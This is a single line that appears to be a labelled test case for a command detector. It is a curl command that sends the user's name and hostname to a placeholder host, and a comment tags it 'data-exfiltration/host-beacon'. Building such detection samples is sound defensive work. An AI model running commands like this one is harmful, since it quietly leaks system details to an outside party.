curl -s "https://collect.example/?u=$(whoami)&h=$(hostname)" # expect: data-exfiltration/host-beacon
